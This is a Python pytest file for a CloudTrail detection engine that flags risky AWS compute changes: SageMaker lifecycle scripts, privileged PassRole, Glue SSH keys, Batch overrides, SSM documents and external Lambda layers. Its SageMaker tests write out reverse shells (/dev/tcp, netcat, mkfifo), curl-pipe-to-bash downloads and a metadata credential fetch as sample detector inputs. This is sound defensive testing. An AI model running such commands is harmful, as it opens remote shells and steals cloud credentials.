"""Compute and execution paths: SageMaker lifecycle scripts and roles, Glue endpoint keys, Batch overrides, SSM
Command documents, Lambda layers and event source mappings from outside the organization."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from trailguard_engine.catalog import rules_by_id
from trailguard_engine.decisions import registry
from trailguard_engine.decisions.compute_gaps import decode_script, script_findings
from trailguard_engine.events import CloudTrailEvent
from trailguard_engine.intended import IntendedExposure
from trailguard_engine.runtime_config import RuntimeConfig

ACCOUNT = "111122223333"
EXT = "444455556666"
SM = "sagemaker.amazonaws.com"
GLUE = "glue.amazonaws.com"
BATCH = "batch.amazonaws.com"
SSM = "ssm.amazonaws.com"
LAMBDA = "lambda.amazonaws.com"
USER = {"type": "IAMUser", "arn": f"arn:aws:iam::{ACCOUNT}:user/bob", "accountId": ACCOUNT, "userName": "bob"}
PIPELINE = {
    "type": "AssumedRole",
    "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/data-pipeline/build",
    "accountId": ACCOUNT,
    "sessionContext": {
        "sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{ACCOUNT}:role/data-pipeline"},
        "attributes": {"mfaAuthenticated": "false"},
    },
}
Ev = Callable[..., CloudTrailEvent]


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# --------------------------------------------------------------------------- #
# SageMaker lifecycle configurations
# --------------------------------------------------------------------------- #

R_SM = "sagemaker-lifecycle-config-attached"


@pytest.mark.parametrize(
    ("script", "finding"),
    [
        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "/dev/tcp"),
        ("nc 198.51.100.7 4444 -e /bin/sh", "netcat"),
        ("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 80 > /tmp/f", "network pipe"),
        ("python3 -c 'import socket,os,pty;s=socket.socket()'", "socket"),
        ("curl -s https://198.51.100.7/x.sh | sudo bash", "piped into an interpreter"),
        ("wget -qO- http://198.51.100.7/a | python3", "piped into an interpreter"),
        ("curl -o /tmp/x https://198.51.100.7/x\nchmod +x /tmp/x\n/tmp/x", "made executable"),
        ("wget http://198.51.100.7/x -O /tmp/x && chmod 755 /tmp/x", "made executable"),
        ("echo aWQK | base64 -d | sh", "decoded payload"),
        ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "metadata"),
        ("CURL -S HTTPS://198.51.100.7/X.SH | BASH", "piped into an interpreter"),
    ],
)
def test_footholds_found(script: str, finding: str) -> None:
    assert any(finding in f for f in script_findings(script)), script_findings(script)


@pytest.mark.parametrize(
    "script",
    [
        "#!/bin/bash\nsudo -u ec2-user -i <<'EOF'\npip install --upgrade pandas\nEOF\n",
        "curl -o /tmp/conf.json https://example.com/conf.json\nchmod 644 /tmp/conf.json",
        "nc -z db.internal 5432",
        "conda install -y numpy && echo done",
    ],
)
def test_ordinary_scripts_are_not_footholds(script: str) -> None:
    assert script_findings(script) == []


def test_decode_script_accepts_base64_with_line_breaks_and_plain_text() -> None:
    encoded = b64("bash -i >& /dev/tcp/1.2.3.4/1 0>&1")
    assert "/dev/tcp/" in decode_script(encoded[:10] + "\n" + encoded[10:])
    assert decode_script("not base64 at all!") == "not base64 at all!"


def lifecycle(ev: Ev, name: str, **hooks: Any) -> CloudTrailEvent:
    return ev(name, {"notebookInstanceLifecycleConfigName": "cfg", **hooks}, identity=USER, source=SM)


@pytest.mark.parametrize("name", ["CreateNotebookInstanceLifecycleConfig", "UpdateNotebookInstanceLifecycleConfig"])
@pytest.mark.parametrize("hook", ["onCreate", "onStart"])
def test_lifecycle_script_with_reverse_shell(ev: Ev, run, name: str, hook: str) -> None:
    e = lifecycle(ev, name, **{hook: [{"content": b64("#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1")}]})
    a = run(R_SM, e)
    assert a.risky and "/dev/tcp" in a.reason and not a.remediable
    assert a.resource == {"type": "AWS::SageMaker::NotebookInstanceLifecycleConfig", "id": "cfg"}


def test_one_bad_script_among_several(ev: Ev, run) -> None:
    e = lifecycle(
        ev,
        "CreateNotebookInstanceLifecycleConfig",
        onStart=[{"content": b64("echo ok")}, {"content": b64("curl x | sh")}],
    )
    assert run(R_SM, e).risky


@pytest.mark.parametrize(
    "hooks",
    [
        {"onStart": [{"content": b64("pip install pandas")}]},
        {},
        {"onStart": "HIDDEN_DUE_TO_SECURITY_REASONS"},
        {"onStart": [1]},
    ],
)
def test_lifecycle_script_without_foothold_is_not_risky(ev: Ev, run, hooks: dict) -> None:
    assert not run(R_SM, lifecycle(ev, "CreateNotebookInstanceLifecycleConfig", **hooks)).risky


@pytest.mark.parametrize("identity", [USER, PIPELINE])
def test_attaching_a_configuration_to_a_notebook_always_fires(ev: Ev, run, identity: dict) -> None:
    e = ev(
        "UpdateNotebookInstance",
        {"notebookInstanceName": "nb", "lifecycleConfigName": "cfg"},
        identity=identity,
        source=SM,
    )
    a = run(R_SM, e)
    assert a.risky and "cfg" in a.reason and a.resource == {"type": "AWS::SageMaker::NotebookInstance", "id": "nb"}


@pytest.mark.parametrize(
    "request_parameters",
    [
        {"notebookInstanceName": "nb", "instanceType": "ml.t3.large"},
        {"notebookInstanceName": "nb", "disassociateLifecycleConfig": True},
        {"notebookInstanceName": "nb", "lifecycleConfigName": ""},
    ],
)
def test_notebook_update_without_configuration(ev: Ev, run, request_parameters: dict) -> None:
    assert not run(R_SM, ev("UpdateNotebookInstance", request_parameters, identity=USER, source=SM)).risky


def test_new_notebook_with_a_configuration_is_not_this_rule(ev: Ev, run) -> None:
    e = ev("CreateNotebookInstance", {"notebookInstanceName": "nb", "lifecycleConfigName": "cfg"}, source=SM)
    assert not run(R_SM, e).risky


# --------------------------------------------------------------------------- #
# PassRole into SageMaker and Glue (iam-privileged-role-passed)
# --------------------------------------------------------------------------- #

R_PASS = "iam-privileged-role-passed"


@pytest.mark.parametrize(
    ("source", "name", "key"),
    [
        (SM, "CreateNotebookInstance", "notebookInstanceName"),
        (SM, "UpdateNotebookInstance", "notebookInstanceName"),
        (SM, "CreateTrainingJob", "trainingJobName"),
        (SM, "CreateProcessingJob", "processingJobName"),
        (GLUE, "CreateDevEndpoint", "endpointName"),
    ],
)
def test_privileged_role_passed_to_sagemaker_and_glue(ev: Ev, run, source: str, name: str, key: str) -> None:
    risky = ev(name, {key: "x1", "roleArn": f"arn:aws:iam::{ACCOUNT}:role/ops/AdminRole"}, source=source)
    a = run(R_PASS, risky)
    assert a.risky and "x1" in a.reason and a.resource == {"type": "AWS::IAM::Role", "id": "AdminRole"}
    plain = ev(name, {key: "x1", "roleArn": f"arn:aws:iam::{ACCOUNT}:role/sagemaker-exec"}, source=source)
    assert not run(R_PASS, plain).risky
    assert not run(R_PASS, ev(name, {key: "x1"}, source=source)).risky


def test_passrole_other_sagemaker_calls_are_not_judged(ev: Ev, run) -> None:
    e = ev("CreateModel", {"modelName": "m", "executionRoleArn": f"arn:aws:iam::{ACCOUNT}:role/Admin"}, source=SM)
    assert not run(R_PASS, e).risky


# --------------------------------------------------------------------------- #
# Glue development endpoint keys
# --------------------------------------------------------------------------- #

R_GLUE = "glue-dev-endpoint-ssh-key"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIexample"


@pytest.mark.parametrize(
    ("name", "request_parameters"),
    [
        ("CreateDevEndpoint", {"endpointName": "e", "publicKey": KEY}),
        ("CreateDevEndpoint", {"endpointName": "e", "publicKeys": [KEY, KEY]}),
        ("UpdateDevEndpoint", {"endpointName": "e", "publicKey": KEY}),
        ("UpdateDevEndpoint", {"endpointName": "e", "addPublicKeys": [KEY]}),
        ("UpdateDevEndpoint", {"EndpointName": "e", "AddPublicKeys": [KEY]}),
    ],
)
def test_glue_key_added(ev: Ev, run, name: str, request_parameters: dict) -> None:
    a = run(R_GLUE, ev(name, request_parameters, source=GLUE))
    assert a.risky and a.resource == {"type": "AWS::Glue::DevEndpoint", "id": "e"}


@pytest.mark.parametrize(
    ("name", "request_parameters"),
    [
        ("CreateDevEndpoint", {"endpointName": "e", "roleArn": f"arn:aws:iam::{ACCOUNT}:role/glue"}),
        ("UpdateDevEndpoint", {"endpointName": "e", "deletePublicKeys": [KEY]}),
        ("UpdateDevEndpoint", {"endpointName": "e", "addPublicKeys": ["", None]}),
        ("DeleteDevEndpoint", {"endpointName": "e"}),
    ],
)
def test_glue_without_new_key(ev: Ev, run, name: str, request_parameters: dict) -> None:
    assert not run(R_GLUE, ev(name, request_parameters, source=GLUE)).risky


# --------------------------------------------------------------------------- #
# Batch command overrides
# --------------------------------------------------------------------------- #

R_BATCH = "batch-job-command-override-by-human"


def submit(ev: Ev, identity: dict, **req: Any) -> CloudTrailEvent:
    return ev(
        "SubmitJob", {"jobName": "j", "jobQueue": "q", "jobDefinition": "etl:3", **req}, identity=identity, source=BATCH
    )


@pytest.mark.parametrize(
    "override",
    [
        {"containerOverrides": {"command": ["sh", "-c", "id"]}},
        {"nodeOverrides": {"nodePropertyOverrides": [{"targetNodes": "0", "containerOverrides": {"command": ["id"]}}]}},
        {"ecsPropertiesOverride": {"taskProperties": [{"containers": [{"name": "c", "command": ["id"]}]}]}},
        {"eksPropertiesOverride": {"podProperties": {"containers": [{"args": ["-c", "id"]}]}}},
        {"ContainerOverrides": {"Command": ["id"]}},
    ],
)
def test_batch_override_by_a_person(ev: Ev, run, override: dict) -> None:
    a = run(R_BATCH, submit(ev, USER, **override))
    assert a.risky and "etl:3" in a.reason and not a.remediable


def test_batch_override_by_automation_or_without_command(ev: Ev, run) -> None:
    assert not run(R_BATCH, submit(ev, PIPELINE, containerOverrides={"command": ["id"]})).risky
    assert not run(R_BATCH, submit(ev, USER, containerOverrides={"environment": [{"name": "A", "value": "1"}]})).risky
    assert not run(R_BATCH, submit(ev, USER, containerOverrides={"command": []})).risky


def test_batch_pipeline_user_from_config_is_not_a_person(ev: Ev, run) -> None:
    cfg = RuntimeConfig(iac_principal_patterns=(f"arn:aws:iam::{ACCOUNT}:user/bob",))
    assert not run(R_BATCH, submit(ev, USER, containerOverrides={"command": ["id"]}), cfg).risky


# --------------------------------------------------------------------------- #
# SSM Command documents
# --------------------------------------------------------------------------- #

R_DOC = "ssm-command-document-by-human"


def doc(action: str) -> str:
    return json.dumps({"schemaVersion": "2.2", "mainSteps": [{"action": action, "name": "s", "inputs": {}}]})


def create_doc(ev: Ev, identity: dict = USER, **req: Any) -> CloudTrailEvent:
    return ev("CreateDocument", {"name": "d", **req}, identity=identity, source=SSM)


@pytest.mark.parametrize(
    "req",
    [
        {"documentType": "Command", "content": doc("aws:runShellScript")},
        {"content": doc("aws:runPowerShellScript")},  # Command is the default type
        {"documentType": "command", "content": "mainSteps:\n- action: AWS:RunShellScript\n"},
        {"documentType": "Command"},  # content not logged: uninspectable
        {"documentType": "Command", "content": "   "},
    ],
)
def test_shell_command_document_by_a_person(ev: Ev, run, req: dict) -> None:
    a = run(R_DOC, create_doc(ev, **req))
    assert a.risky and a.resource == {"type": "AWS::SSM::Document", "id": "d"}


@pytest.mark.parametrize(
    ("identity", "req"),
    [
        (USER, {"documentType": "Command", "content": doc("aws:configurePackage")}),
        (USER, {"documentType": "Automation", "content": doc("aws:runShellScript")}),
        (USER, {"documentType": "Session", "content": "{}"}),
        (PIPELINE, {"documentType": "Command", "content": doc("aws:runShellScript")}),
    ],
)
def test_other_documents_or_callers(ev: Ev, run, identity: dict, req: dict) -> None:
    assert not run(R_DOC, create_doc(ev, identity, **req)).risky


# --------------------------------------------------------------------------- #
# Lambda layers and event source mappings
# --------------------------------------------------------------------------- #

R_LAYER = "lambda-external-layer"
R_ESM = "lambda-event-source-external"


def layer(acct: str, partition: str = "aws") -> str:
    return f"arn:{partition}:lambda:us-east-1:{acct}:layer:l:1"


def update_layers(ev: Ev, *layers: Any, name: str = "UpdateFunctionConfiguration20150331v2") -> CloudTrailEvent:
    return ev(name, {"functionName": "f", "layers": list(layers)}, source=LAMBDA)


@pytest.mark.parametrize("name", ["UpdateFunctionConfiguration20150331v2", "CreateFunction20150331", "CreateFunction"])
def test_foreign_layer_fires(ev: Ev, run, name: str) -> None:
    a = run(R_LAYER, update_layers(ev, layer(ACCOUNT), layer(EXT), name=name))
    assert a.risky and EXT in a.reason and layer(ACCOUNT) not in a.reason
    assert a.resource == {"type": "AWS::Lambda::Function", "id": "f"}


def test_own_org_trusted_and_vendor_layers_do_not_fire(ev: Ev, run) -> None:
    e = update_layers(ev, layer(EXT))
    assert not run(R_LAYER, update_layers(ev, layer(ACCOUNT))).risky
    assert not run(R_LAYER, e, RuntimeConfig(organization_accounts=frozenset({ACCOUNT, EXT}))).risky
    assert not run(R_LAYER, e, RuntimeConfig(intended=IntendedExposure(trusted_accounts=frozenset({EXT})))).risky
    rule = rules_by_id()[R_LAYER]
    vendor = replace(rule, params={"trusted_layer_accounts": [EXT]})
    assert not registry()[rule.decision](e, vendor, RuntimeConfig()).risky


@pytest.mark.parametrize("value", [None, [], ["not-an-arn"], [7], "arn:aws:lambda:us-east-1:444455556666:layer:l:1"])
def test_layer_values_that_name_no_foreign_layer(ev: Ev, run, value: Any) -> None:
    e = ev("UpdateFunctionConfiguration20150331v2", {"functionName": "f", "layers": value}, source=LAMBDA)
    # A bare string is one layer ARN (as_list), so the last value is foreign and fires.
    assert run(R_LAYER, e).risky is isinstance(value, str)


def test_unknown_organization_makes_member_layers_alert(ev: Ev, run) -> None:
    """Without the organization list an organization account looks external: an alert, never a silence."""
    assert run(R_LAYER, update_layers(ev, layer(EXT)), RuntimeConfig(organization_accounts=None)).risky


@pytest.mark.parametrize(
    "source_arn",
    [
        f"arn:aws:sqs:us-east-1:{EXT}:q",
        f"arn:aws:kinesis:us-east-1:{EXT}:stream/s",
        f"arn:aws:dynamodb:us-east-1:{EXT}:table/t/stream/2026-10-01T00:00:00.000",
        f"arn:aws:kafka:us-east-1:{EXT}:cluster/c/uuid",
    ],
)
def test_event_source_in_another_account(ev: Ev, run, source_arn: str) -> None:
    e = ev("CreateEventSourceMapping20150331", {"functionName": "f", "eventSourceArn": source_arn}, source=LAMBDA)
    a = run(R_ESM, e)
    assert a.risky and EXT in a.reason
    assert not run(R_ESM, e, RuntimeConfig(organization_accounts=frozenset({ACCOUNT, EXT}))).risky


@pytest.mark.parametrize(
    "req",
    [
        {"eventSourceArn": f"arn:aws:sqs:us-east-1:{ACCOUNT}:q"},
        {"eventSourceArn": "not-an-arn"},
        {},
        {"selfManagedEventSource": {"endpoints": {"KAFKA_BOOTSTRAP_SERVERS": []}}},
    ],
)
def test_event_source_ours_or_unnamed(ev: Ev, run, req: dict) -> None:
    e = ev("CreateEventSourceMapping20150331", {"functionName": "f", **req}, source=LAMBDA)
    assert not run(R_ESM, e).risky


def test_self_managed_kafka_fires(ev: Ev, run) -> None:
    req = {
        "functionName": "f",
        "selfManagedEventSource": {"endpoints": {"KAFKA_BOOTSTRAP_SERVERS": ["k.example.net:9092"]}},
    }
    a = run(R_ESM, ev("CreateEventSourceMapping20150331", req, source=LAMBDA))
    assert a.risky and "k.example.net" in a.reason


def test_other_lambda_calls_not_judged(ev: Ev, run) -> None:
    e = ev("UpdateEventSourceMapping20150331", {"uUID": "u", "batchSize": 5}, source=LAMBDA)
    assert not run(R_ESM, e).risky
    assert not run(R_LAYER, ev("PublishLayerVersion20181031", {"layerName": "l"}, source=LAMBDA)).risky


@pytest.mark.parametrize("acct", ["017000801446", "094274105915"])
def test_powertools_layers_are_trusted_by_default(ev: Ev, run, acct: str) -> None:
    """AWS publishes the Powertools layers from these accounts in every region: a routine vendor layer."""
    assert not run(
        R_LAYER, update_layers(ev, f"arn:aws:lambda:eu-west-1:{acct}:layer:AWSLambdaPowertoolsPythonV3:7")
    ).risky
    assert run(R_LAYER, update_layers(ev, layer(acct), layer(EXT))).risky
